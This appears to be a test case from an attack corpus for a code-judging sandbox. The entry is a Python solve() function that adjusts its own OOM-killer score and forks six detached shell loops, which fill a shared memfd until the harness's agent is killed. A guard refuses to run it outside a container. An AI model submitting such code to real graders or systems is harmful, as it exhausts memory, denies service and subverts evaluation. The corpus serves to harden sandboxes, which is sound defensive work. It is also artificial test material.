# ID: 278
# SLUG: memory-on-others
# CATEGORY: process
# ATTACK: lowers its own weight for the out-of-memory killer and uses up memory that belongs to no
#     process
# VULNERABLE JUDGE: the killer takes the agent: the sandbox is gone, and that is our fault
# MUST HAPPEN HERE: the memory limit is reached: a failed submission
# EXPECT-VERDICT: fail   (never pass)
import os

if os.environ.get("ATTACK_CORPUS_IN_SANDBOX") != "1" and (
    os.geteuid() == 0 or not (os.path.exists("/.dockerenv") or os.path.exists("/run/.containerenv"))
):
    raise RuntimeError("attack corpus: refusing to run as root or outside a container")


def solve(x):
    try:
        with open("/proc/self/oom_score_adj", "w") as file:
            file.write("0")
    except OSError:
        pass
    memory = os.memfd_create("m")
    os.set_inheritable(memory, True)
    os.ftruncate(memory, 1 << 30)
    # What writes is small and is started anew when it is killed; what it wrote stays.
    script = f"while :; do dd if=/dev/zero bs=64k count=4000 >&{memory} 2>/dev/null; done"
    for _ in range(6):
        if os.fork() == 0:
            os.setsid()
            os.execv(
                "/bin/sh",
                ["sh", "-c", f"echo 0 > /proc/self/oom_score_adj; ulimit -t 10; {script}"],
            )
    os.execv("/bin/sleep", ["sleep", "10"])
